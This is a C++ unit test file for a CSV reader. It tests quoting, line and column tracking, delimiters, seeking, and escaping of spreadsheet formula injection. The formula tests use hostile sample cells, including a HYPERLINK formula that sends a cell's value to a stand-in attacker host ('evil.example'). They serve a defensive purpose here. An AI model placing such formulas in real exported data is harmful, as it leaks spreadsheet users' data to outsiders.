#include <sentra/io/csv.hpp>

#include "catch.hpp"

#include <string>
#include <vector>

using namespace sentra;
using io::csv_reader;
using io::csv_status;

namespace {
std::vector<std::vector<std::string>> read_all(std::string_view text, report& r)
{
    csv_reader rd(text, "t.csv");
    std::vector<io::csv_field> f;
    std::vector<std::vector<std::string>> out;
    for (;;) {
        auto st = rd.next(f, r);
        if (st == csv_status::end) break;
        if (st == csv_status::problem) continue;
        std::vector<std::string> row;
        for (auto const& x : f) row.emplace_back(x.text);
        out.push_back(row);
    }
    return out;
}
} // namespace

TEST_CASE("plain, quoted and escaped fields", "[csv]")
{
    report r;
    auto rows = read_all("a,b,c\n\"x, y\",\"say \"\"hi\"\"\",z\n", r);
    CHECK(r.ok());
    REQUIRE(rows.size() == 2);
    CHECK(rows[0] == std::vector<std::string>{"a", "b", "c"});
    CHECK(rows[1] == std::vector<std::string>{"x, y", "say \"hi\"", "z"});
}

TEST_CASE("lenient on BOM, CRLF, missing final newline and bare quotes", "[csv]")
{
    report r;
    auto rows = read_all("\xEF\xBB\xBF"
                         "code,name\r\n1,Soka\"an\r\n2,last",
                         r);
    CHECK(r.ok());
    REQUIRE(rows.size() == 3);
    CHECK(rows[0][0] == "code");
    CHECK(rows[1][1] == "Soka\"an");
    CHECK(rows[2][1] == "last");
}

TEST_CASE("quoted fields may span lines and line numbers follow", "[csv]")
{
    report r;
    csv_reader rd("a,\"two\nlines\"\nb,c\n", "t.csv");
    std::vector<io::csv_field> f;
    REQUIRE(rd.next(f, r) == csv_status::record);
    CHECK(f[1].text == "two\nlines");
    CHECK(rd.line() == 1);
    REQUIRE(rd.next(f, r) == csv_status::record);
    CHECK(rd.line() == 3);
    CHECK(f[0].line == 3);
    CHECK(f[1].column == 3);
    CHECK(rd.next(f, r) == csv_status::end);
}

TEST_CASE("syntax problems are reported with line and column, the rest goes on", "[csv]")
{
    report r;
    auto rows = read_all("ok,1\n\"bad\"x,2\nok,3\n\"never closed,4\n", r);
    REQUIRE(rows.size() == 2);
    CHECK(rows[1][1] == "3");
    REQUIRE(r.error_count() == 2);
    auto p = r.problems();
    CHECK(p[0].code == errc::syntax_error);
    CHECK(p[0].where.file == "t.csv");
    CHECK(p[0].where.line == 2);
    CHECK(p[0].where.column == 6);
    CHECK(p[1].code == errc::unterminated_quote);
    CHECK(p[1].where.line == 4);
    CHECK(p[1].where.column == 1);
}

TEST_CASE("empty input, empty lines and a million columns", "[csv]")
{
    report r;
    CHECK(read_all("", r).empty());
    auto rows = read_all("\n\n", r);
    REQUIRE(rows.size() == 2);
    CHECK(rows[0] == std::vector<std::string>{""});
    std::string wide(1'000'000, ',');
    auto w = read_all(wide, r);
    REQUIRE(w.size() == 1);
    CHECK(w[0].size() == 1'000'001);
    CHECK(r.ok());
}

TEST_CASE("where() points into the field", "[csv]")
{
    report r;
    csv_reader rd("x,\"abc\"\n", "f.csv");
    std::vector<io::csv_field> f;
    REQUIRE(rd.next(f, r) == csv_status::record);
    auto l = rd.where(f[1], 1);
    CHECK(l.file == "f.csv");
    CHECK(l.line == 1);
    CHECK(l.column == 5); // after the opening quote, one byte in
    CHECK(rd.where_line(9, 2).line == 9);
    CHECK(rd.file() == "f.csv");
}

TEST_CASE("a position inside a quoted field that spans lines or holds quotes", "[csv]")
{
    // Found by fuzz_gazetteer: a problem after a line break inside a quoted field was placed
    // on the field's first line, past its end.
    csv_reader rd("a,\"x\ny\"\"z\"\n", "t.csv");
    std::vector<io::csv_field> f;
    report r;
    REQUIRE(rd.next(f, r) == csv_status::record);
    REQUIRE(f[1].text == "x\ny\"z");
    auto const at_y = rd.where(f[1], 2);
    CHECK(at_y.line == 2);
    CHECK(at_y.column == 1);
    auto const at_z = rd.where(f[1], 4); // after the doubled quote
    CHECK(at_z.line == 2);
    CHECK(at_z.column == 4);
    auto const at_x = rd.where(f[1], 0);
    CHECK(at_x.line == 1);
    CHECK(at_x.column == 4);
}

TEST_CASE("other delimiters, and a piece of a longer input", "[csv]")
{
    report r;
    csv_reader semi("a;\"b;c\";d\r\n1,5;2;3\r\n", "t.csv", ';');
    CHECK(semi.delimiter() == ';');
    std::vector<io::csv_field> f;
    REQUIRE(semi.next(f, r) == csv_status::record);
    REQUIRE(f.size() == 3);
    CHECK(f[1].text == "b;c");
    REQUIRE(semi.next(f, r) == csv_status::record);
    CHECK(f[0].text == "1,5");
    CHECK(f[2].column == 7);
    CHECK(csv_reader("x", "t.csv", '"').delimiter() == ','); // a quote cannot be one
    CHECK(csv_reader("x", "t.csv", '\n').delimiter() == ',');

    csv_reader tab("x\ty\n", "t.csv", '\t', 41);
    REQUIRE(tab.next(f, r) == csv_status::record);
    CHECK(tab.line() == 41);
    CHECK(f[1].text == "y");
    CHECK(f[1].line == 41);
    CHECK(tab.next_line() == 42);
    CHECK(r.ok());
}

TEST_CASE("seek continues at a record another reader reached", "[csv]")
{
    report r;
    std::string const text = "h1,h2\na,b\n\"c\nd\",e\nf,g";
    csv_reader reader(text, "t.csv");
    std::vector<io::csv_field> f;
    REQUIRE(reader.next(f, r) == csv_status::record); // the header
    // another reader took "a,b" (line 2): continue at line 3
    reader.seek(text.find('"'), 3);
    REQUIRE(reader.next(f, r) == csv_status::record);
    CHECK(reader.line() == 3);
    CHECK(f[0].text == "c\nd");
    CHECK(f[1].line == 4);
    CHECK(f[1].column == 4);
    CHECK(reader.next_line() == 5);
    REQUIRE(reader.next(f, r) == csv_status::record);
    CHECK(f[1].text == "g");
    // past the end: the end
    reader.seek(text.size() + 10, 9);
    CHECK(reader.position() == text.size());
    CHECK(reader.next(f, r) == csv_status::end);
    CHECK(r.ok());
}

TEST_CASE("a cell a spreadsheet would run as a formula is recognised", "[csv][formula]")
{
    for (std::string_view cell : {"=1+1", "+SUM(1+1)", "-2+3", "@cmd", "\t=1", "\r=1",
                                  "  =HYPERLINK(\"x\")", "\"=1+1", " \" @cmd"})
        CHECK(io::starts_formula(cell));
    for (std::string_view cell : {"", "   ", "Konveksi Maju", "1+1", "'=1+1", "'+6281234567890",
                                  "a=b", "2024-03-01", "Rp 1,5 miliar"})
        CHECK_FALSE(io::starts_formula(cell));
}

TEST_CASE("cells are written so that no formula runs and each reads back", "[csv][formula]")
{
    // Every trigger the OWASP page names, also after spaces and quotes.
    std::vector<std::string> const values = {
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"klik\")", "+SUM(1+1)", "-2+3", "@cmd",
        "\tTab", "\r=1", "  =1+1", "\"=1+1\"", "plain", "a, b", "say \"hi\"", "two\nlines",
        " spaced ", "", "Warung Ñoño ☕"};
    std::string text;
    for (std::size_t i = 0; i < values.size(); ++i) {
        if (i) text += ',';
        io::append_csv_cell(text, values[i]);
    }
    text += '\n';
    CHECK(io::csv_cell("=1+1") == "\"'=1+1\"");
    CHECK(io::csv_cell("-2+3", ';') == "\"'-2+3\"");
    CHECK(io::csv_cell("plain") == "plain");
    CHECK(io::csv_cell("a;b", ';') == "\"a;b\"");
    CHECK(io::csv_cell("a;b", ',') == "a;b");
    CHECK(io::csv_cell("'01111") == "'01111"); // marked as text by its writer already
    report r;
    auto const rows = read_all(text, r);
    CHECK(r.ok());
    REQUIRE(rows.size() == 1);
    REQUIRE(rows[0].size() == values.size());
    for (std::size_t i = 0; i < values.size(); ++i) {
        std::string cell = rows[0][i];
        CHECK_FALSE(io::starts_formula(cell)); // as a spreadsheet sees it
        // The import takes one leading apostrophe off: the value again.
        if (!cell.empty() && cell[0] == '\'') cell.erase(0, 1);
        CHECK(cell == values[i]);
    }
}
